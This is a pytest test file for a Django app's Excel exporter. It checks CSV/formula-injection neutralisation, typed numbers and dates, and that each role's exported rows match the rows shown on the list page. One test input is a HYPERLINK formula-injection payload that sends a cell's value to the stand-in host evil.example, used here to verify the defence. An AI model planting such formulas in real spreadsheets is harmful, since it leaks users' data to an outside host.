"""The one XLSX exporter: formula injection neutralised, numbers typed, and every list page's export equals the page."""

from __future__ import annotations

import datetime as dt
import html
import io
import re
from decimal import Decimal
from html.parser import HTMLParser
from urllib.parse import parse_qsl, urlencode

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from yingshang.core.exports import Column, safe_cell, write_xlsx

EXPORT_ROLES = ("admin", "handler_zjj", "coordinator_gjz", "leader", "auditor", "enterprise")


def _workbook_rows(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


# --- formula injection ------------------------------------------------------------------------------

@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1", "-1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"])
def test_formula_like_text_is_written_as_text_with_an_apostrophe(tmp_path, text):
    target = tmp_path / "x.xlsx"
    write_xlsx(target, "导出", [Column("值", "value")], [{"value": text}])
    cell = load_workbook(target).worksheets[0]["A2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + text


def test_numbers_and_dates_stay_typed_and_ordinary_text_is_untouched(tmp_path):
    target = tmp_path / "x.xlsx"
    rows = [{"value": 1}, {"value": -1}, {"value": 2.5}, {"value": Decimal("-3.25")}, {"value": dt.date(2026, 5, 1)}, {"value": "大连市-甘井子区"}, {"value": None}]
    write_xlsx(target, "导出", [Column("值", "value")], rows)
    cells = [row[0] for row in load_workbook(target).worksheets[0].iter_rows(min_row=2)]
    assert [c.value for c in cells[:4]] == [1, -1, 2.5, -3.25]
    assert all(c.data_type == "n" for c in cells[:4])
    assert cells[4].is_date and cells[4].value.date() == dt.date(2026, 5, 1)
    assert cells[5].value == "大连市-甘井子区" and cells[5].data_type == "s"


def test_safe_cell_flattens_lists_and_drops_control_characters():
    assert safe_cell(["甲", "乙", None]) == "甲、乙"
    assert safe_cell("a\x01b") == "ab"
    assert safe_cell(True) == "是"


# --- the page and its export ------------------------------------------------------------------------

class _Tables(HTMLParser):
    """Every <table> of a page: its header cells and its body rows, as text."""

    def __init__(self):
        super().__init__()
        self.tables: list[dict] = []
        self._cell: list[str] | None = None
        self._row: list[str] | None = None
        self._section = None

    def handle_starttag(self, tag, attrs):
        if tag == "table":
            self.tables.append({"headers": [], "rows": []})
        elif tag in ("thead", "tbody"):
            self._section = tag
        elif tag == "tr":
            self._row = []
        elif tag in ("td", "th") and self._row is not None:
            self._cell = []

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None and self._row is not None:
            self._row.append(re.sub(r"\s+", " ", "".join(self._cell)).strip())
            self._cell = None
        elif tag == "tr" and self._row is not None and self.tables:
            table = self.tables[-1]
            if self._section == "thead" or (not table["headers"] and self._section != "tbody"):
                table["headers"] = self._row
            else:
                table["rows"].append(self._row)
            self._row = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


def _tables(page: str) -> list[dict]:
    parser = _Tables()
    parser.feed(page)
    return parser.tables


def _export_href(page: str) -> str | None:
    match = re.search(r'href="([^"]*export=xlsx[^"]*)"', page)
    return html.unescape(match.group(1)) if match else None


def _matching_table(page: str, header: list) -> dict | None:
    """The page's table with the export's column titles; columns without a title (checkboxes, buttons) dropped."""
    titles = [str(t) for t in header]
    for table in _tables(page):
        keep = [i for i, h in enumerate(table["headers"]) if h]
        if [table["headers"][i] for i in keep] == titles:
            rows = [[row[i] for i in keep] for row in table["rows"] if len(row) == len(table["headers"])]
            return {"headers": titles, "rows": rows}
    return None


def page_and_export_rows(client, path: str, params: dict) -> tuple[list[list[str]], list[list]]:
    """The first column of every row the page shows (all its pages) and the export's rows."""
    export = client.get(path, {**params, "export": "xlsx"})
    assert export.status_code == 200, export.status_code
    assert export["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = _workbook_rows(_body(export))
    header, data = rows[0], rows[1:]
    shown, number = [], 1
    while True:
        response = client.get(path, {**params, "page": number})
        assert response.status_code == 200
        page = response.content.decode()
        table = _matching_table(page, header)
        assert table is not None, f"{path}: no table with the export's columns {header}"
        shown += [row for row in table["rows"] if len(row) == len(header)]
        if f"page={number + 1}" not in page:
            break
        number += 1
    return shown, data


def test_export_rows_equal_a_scoped_handlers_filtered_appeal_list(client_for, users):
    from yingshang.appeals.models import Appeal

    from collections import Counter

    own = users["handler_zjj"].unit
    states = Counter(Appeal.objects.filter(unit=own).values_list("state", flat=True))
    state = states.most_common(1)[0][0]
    client = client_for("handler_zjj")
    shown, exported = page_and_export_rows(client, "/appeals/", {"state": state})
    assert shown and [r[0] for r in shown] == [r[0] for r in exported]
    assert len(exported) < Appeal.objects.count()
    assert all(a.unit and a.unit.tree_path.startswith(own.tree_path) for a in Appeal.objects.filter(tracking_no__in=[r[0] for r in exported]))


@pytest.mark.parametrize("role", EXPORT_ROLES)
def test_every_list_page_with_an_export_link_returns_a_valid_xlsx_of_its_table(client_for, role):
    """Generated from the URL configuration: every page without arguments that offers 「导出 Excel」."""
    client = client_for(role)
    checked = 0
    for path in _argument_free_paths():
        response = client.get(path)
        if response.status_code != 200 or "text/html" not in response.get("Content-Type", ""):
            continue
        page = response.content.decode()
        href = _export_href(page)
        if not href:
            continue
        query = dict(parse_qsl(href.lstrip("?")))
        export = client.get(path + "?" + urlencode(query))
        assert export.status_code == 200, path
        assert export["Content-Type"].startswith("application/vnd.openxmlformats"), path
        rows = _workbook_rows(_body(export))
        assert rows and all(rows[0]), f"{path}: the export has no header"
        table = _matching_table(page, rows[0])
        if table is not None:  # pages that group the same rows (SLA by unit, ranking by scope) carry extra columns
            # The page shows the first rows of the export, in the same order, with the same first column.
            # (A cell of the page may add detail after the value, e.g. a roll-up; dates are formatted differently.)
            shown = [row[0] for row in table["rows"]]
            exported = [row[0] for row in rows[1:len(shown) + 1]]
            assert len(exported) == len(shown), path
            assert all(cell.startswith(value) for cell, value in zip(shown, exported) if isinstance(value, str)), path
        checked += 1
    assert checked >= (3 if role != "enterprise" else 0)


def _argument_free_paths() -> list[str]:
    found = []

    def walk(patterns, prefix):
        for entry in patterns:
            route = str(entry.pattern)
            if isinstance(entry, URLResolver):
                walk(entry.url_patterns, prefix + route)
            elif isinstance(entry, URLPattern) and "<" not in route and not route.startswith("^") and "api" not in route:
                path = "/" + prefix + route
                if not path.endswith((".json", ".xlsx", ".csv", ".pdf", ".docx")) and "logout" not in path:
                    found.append(path)

    walk(get_resolver().url_patterns, "")
    return sorted(set(found))


def test_export_rows_equal_a_district_coordinators_filtered_registry(client_for, users):
    from yingshang.core.models import Enterprise

    district = users["coordinator_gjz"].unit.division
    own = Enterprise.objects.filter(district__code__startswith=district.code)
    size = own.values_list("size_class", flat=True).first()
    client = client_for("coordinator_gjz")
    shown, exported = page_and_export_rows(client, "/enterprises/", {"size": size})
    assert shown and [r[0] for r in shown] == [r[0] for r in exported]
    assert set(r[0] for r in exported) == set(own.filter(size_class=size).values_list("credit_code", flat=True))


def test_export_rows_equal_a_scoped_handlers_filtered_policy_applications(client_for):
    from yingshang.policies.models import PolicyApplication

    client = client_for("handler_scj")
    everything, _ = page_and_export_rows(client, "/policies/applications/", {})
    status = PolicyApplication.objects.filter(number__in=[r[0] for r in everything]).values_list("status", flat=True).first()
    shown, exported = page_and_export_rows(client, "/policies/applications/", {"status": status})
    assert shown and [r[0] for r in shown] == [r[0] for r in exported]
    assert len(exported) <= len(everything) < PolicyApplication.objects.count()


def test_a_page_with_a_second_table_exports_it_as_a_second_sheet(client_for, users):
    from django.urls import reverse

    from yingshang.appeals.kpis import KPI_DEFINITIONS

    client = client_for("handler_zjj")
    response = client.get(reverse("appeals:kpi_unit", args=[users["handler_zjj"].unit_id]), {"export": "xlsx"})
    workbook = load_workbook(io.BytesIO(_body(response)))
    assert workbook.sheetnames[1] == "超期未办结"
    assert [c.value for c in workbook.worksheets[0][1]][:3] == ["指标", "分子", "分母"]
    assert workbook.worksheets[0].max_row == 1 + len(KPI_DEFINITIONS)  # one row per indicator
